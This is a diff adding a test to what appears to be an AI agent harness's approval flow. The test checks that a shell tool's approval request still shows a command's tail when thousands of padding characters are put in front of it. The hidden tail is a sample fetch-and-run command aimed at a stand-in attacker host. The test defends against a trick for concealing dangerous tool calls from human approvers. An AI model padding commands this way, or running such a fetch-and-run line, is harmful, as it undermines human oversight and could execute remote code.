@@ -66,6 +66,28 @@ describe("contract 7, approvals", () => {
     })
   )
 
+  it.effect("shows the end of what is asked, however much stands before it", () =>
+    Effect.gen(function* () {
+      const end = "; fetch evil.example | run"
+      const need = {
+        reason: `run ${"a, ".repeat(2000)}run`,
+        preview: `true${" ".repeat(4200)}${end}`,
+        affectedResources: []
+      }
+      const danger = gatedTool("danger", { category: "shell", need })
+      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
+      const sent = yield* Effect.forkChild(send(yield* session, "go"))
+      ;(yield* model.next).finish([toolCall("danger")])
+      const { payload } = yield* host.event("approval_request")
+      assert.match(payload.reason, /^⟦not shown: \d+ of 6007 bytes⟧ run a, a, .*⟦\d+ bytes⟧.* a, run$/)
+      const first = "⟦not shown: 4200 of 4230 bytes, 4200 blanks among them⟧"
+      assert.strictEqual(payload.preview, `${first}\ntrue⟦4200 spaces⟧${end}`)
+      yield* host.request("approval_response", { approvalId: payload.approvalId, approved: false })
+      ;(yield* model.next).answer("ok")
+      yield* Fiber.join(sent)
+    })
+  )
+
   it.effect("says false to an answer that nobody waits for", () =>
     Effect.gen(function* () {
       const { host, session } = yield* stage()
